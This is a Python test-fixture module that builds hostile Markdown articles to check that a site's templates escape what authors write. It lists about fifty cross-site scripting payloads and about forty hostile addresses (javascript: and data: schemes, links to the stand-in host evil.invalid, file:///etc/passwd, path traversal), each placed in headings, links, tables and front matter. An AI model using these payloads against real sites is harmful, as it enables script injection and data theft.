"""Hostile texts, and the places of an article in which each of them is tried.

A text tries to run `alert(1)`, to ask something of `evil.invalid`, or to leave the element or the
attribute that it was put in. The places are all from which a template prints what an author wrote.
"""

# What a text may hold that an HTML, URL, JSON or XML context could take for its own.
MARKUP = {
    "script": "<script>alert(1)</script>",
    "script upper case": "<SCRIPT>alert(1)</SCRIPT>",
    "script split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script unclosed": "<script>alert(1)",
    "script with a slash": "<script/x>alert(1)</script>",
    "script source": "<script src=//evil.invalid/x.js></script>",
    "script end and image": "</script><img src=x onerror=alert(1)>",
    "image with onerror": "<img src=x onerror=alert(1)>",
    "image with back quotes": "<img src=`x`onerror=alert(1)>",
    "image beacon": "<img src=http://evil.invalid/beacon>",
    "image set": "<img srcset='http://evil.invalid/a 1x'>",
    "SVG with onload": "<svg onload=alert(1)>",
    "SVG script": "<svg><script>alert&#40;1&#41;</script></svg>",
    "SVG animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "MathML link": '<math href="javascript:alert(1)">x</math>',
    "details with ontoggle": "<details open ontoggle=alert(1)>",
    "input with autofocus": "<input autofocus onfocus=alert(1)>",
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "frame document": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "base": "<base href=//evil.invalid/>",
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "style import": "<style>@import'http://evil.invalid/x.css';</style>",
    "link to a style": "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "form": "<form action=javascript:alert(1)><button>x</button></form>",
    "title end": "</title><script>alert(1)</script>",
    "style end": "</style><script>alert(1)</script>",
    "textarea end": "</textarea><script>alert(1)</script>",
    "comment": "<!--><script>alert(1)</script>-->",
    "comment end": "--><script>alert(1)</script><!--",
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "double quote and handler": '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "single quote and handler": "' autofocus onfocus='alert(1)' x='",
    "double quote and element": '"><img src=x onerror=alert(1)>',
    "single quote and element": "'><img src=x onerror=alert(1)>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric entities": "&#60;img src=x onerror=alert(1)&#62;",
    "entities twice": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "JSON end": '"}</script><script>alert(1)</script>',
    "JSON backslash": '\\"}];alert(1)//',
    "JSON escape": "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "line separators": "\u2028</script><script>alert(1)\u2029</script>",
    "mustache": "{{{page.title}}}<script>alert(1)</script>{{/x}}",
    "mustache partial": "{{>partials/header}}{{=<% %>=}}",
    "full-width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "right to left": "\u202e<img src=x onerror=alert(1)>\u202c",
    "zero width": "<\u200bscript>alert(1)</\u200bscript>",
    "long dash of bytes": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}

# Where a link or an image may try to lead.
ADDRESSES = {
    "javascript": "javascript:alert(1)",
    "mixed case": "JaVaScRiPt:alert(1)",
    "leading blank": "%20javascript:alert(1)",
    "entity tab": "java&#9;script:alert(1)",
    "entity line feed": "java&#10;script:alert(1)",
    "entity colon": "javascript&colon;alert(1)",
    "numeric colon": "javascript&#58;alert(1)",
    "hexadecimal colon": "javascript&#x3a;alert(1)",
    "entity letters": "&#106;&#97;&#118;&#97;script:alert(1)",
    "padded entity": "&#0000106avascript:alert(1)",
    "entity without end": "&#x6Aavascript:alert(1)",
    "NUL entity": "java&#0;script:alert(1)",
    "control first": "&#1;javascript:alert(1)",
    "soft hyphen": "java\u00adscript:alert(1)",
    "zero width": "java\u200bscript:alert(1)",
    "byte order mark": "\ufeffjavascript:alert(1)",
    "percent colon": "javascript%3aalert(1)",
    "backslashes": "java\\script:alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "livescript": "livescript:alert(1)",
    "data page": "data:text/html,<script>alert(1)</script>",
    "data in base 64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data picture": "data:image/svg+xml,<svg onload=alert(1)>",
    "data upper case": "DATA:text/html,<script>alert(1)</script>",
    "file": "file:///etc/passwd",
    "blob": "blob:https://evil.invalid/1",
    "view source": "view-source:javascript:alert(1)",
    "feed": "feed:javascript:alert(1)",
    "jar": "jar:javascript:alert(1)!/",
    "no scheme": "//evil.invalid/x",
    "back slashes for slashes": "\\\\evil.invalid/x",
    "slash and back slash": "/\\evil.invalid/x",
    "three slashes": "///evil.invalid/x",
    "tab in slashes": "/&#9;/evil.invalid/x",
    "other host": "http://evil.invalid/x.png",
    "user and host": "https://example.org@evil.invalid/x",
    "out of the site": "../../../../../../etc/passwd",
    "percent out of the site": "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "quote": 'x"onmouseover="alert(1)',
    "single quote": "x'onmouseover='alert(1)",
    "angle": "x><script>alert(1)</script>",
    "fragment": "#\"><script>alert(1)</script>",
    "query": "?\"><script>alert(1)</script>",
}


def _quoted(text):
    """As a YAML scalar in double quotes."""
    escapes = {'"': '\\"', "\\": "\\\\", "\u2028": "\\L", "\u2029": "\\P"}
    return '"' + "".join(escapes.get(c, c) for c in text) + '"'


def _page(body="A page.", title="A hostile page", more="", description="A page that tries to harm."):
    return (
        f"---\ntitle: {_quoted(title)}\ndescription: {_quoted(description)}\n{more}---\n{body}\n"
    )


# A place, and the article that holds the text there.
MARKUP_PLACES = {
    "text": lambda t: _page(f"Before {t} after."),
    "block": lambda t: _page(f"Before.\n\n{t}\n\nAfter."),
    "heading": lambda t: _page(f"## A {t} heading\n\nText.\n\n## Another\n\nText."),
    "heading id": lambda t: _page(f"## A heading {{#{t}}}\n\nText."),
    "code": lambda t: _page(f"Before `` {t} `` after."),
    "code block": lambda t: _page(f"~~~\n{t}\n~~~"),
    "code language": lambda t: _page(f"~~~ {t}\ncode\n~~~"),
    "emphasis": lambda t: _page(f"**{t}**"),
    "list": lambda t: _page(f"- {t}\n- 2"),
    "table cell": lambda t: _page(f"| a | b |\n| --- | --- |\n| {t} | 2 |"),
    "table head": lambda t: _page(f"| {t} | b |\n| --- | --- |\n| 1 | 2 |"),
    "callout heading": lambda t: _page(f"> [!NOTE] {t}\n> Text."),
    "callout kind": lambda t: _page(f"> [!{t}] Heading\n> Text."),
    "statement name": lambda t: _page(f"> [!SAFETY] {t}"),
    "citation": lambda t: _page(f"Text [@{t}]."),
    "link text": lambda t: _page(f"[{t}](/a-z/)"),
    "link title": lambda t: _page(f"[x](/a-z/ '{t}')"),
    "picture's words": lambda t: _page(f"![{t}](/icon.svg)"),
    "title": lambda t: _page(title=t),
    "description": lambda t: _page(description=t),
    "synonym": lambda t: _page(more=f"synonyms: [{_quoted(t)}]\n"),
    "tag": lambda t: _page(more=f"tags: [{_quoted(t)}]\n"),
    "author": lambda t: _page(more=f"authors: [{{name: {_quoted(t)}, credentials: {_quoted(t)}}}]\n"),
    "reviewer": lambda t: _page(more=f"reviewer: {{name: {_quoted(t)}, credentials: {_quoted(t)}}}\n"),
    "withdrawal": lambda t: _page(more=f"withdrawn: {_quoted(t)}\n"),
    "unknown key": lambda t: _page(more=f"{_quoted(t)}: 1\n"),
    "suppression": lambda t: _page(f"<!-- remedy-ignore author-missing: {t} -->\n\nText."),
}

ADDRESS_PLACES = {
    "link": lambda a: _page(f"[x](<{a}>)"),
    "bare link": lambda a: _page(f"[x]({a})"),
    "reference": lambda a: _page(f"[x][r]\n\n[r]: <{a}>"),
    "autolink": lambda a: _page(f"<{a}>"),
    "picture": lambda a: _page(f"![x](<{a}>)"),
    "alias": lambda a: _page(more=f"aliases: [{_quoted(a)}]\n"),
    "related": lambda a: _page(more=f"related: [{_quoted(a)}]\n"),
}


def articles():
    """Each combination: (what it tries, where), and its article."""
    for texts, places in ((MARKUP, MARKUP_PLACES), (ADDRESSES, ADDRESS_PLACES)):
        for place, article in places.items():
            for name, text in texts.items():
                yield (name, place), article(text)
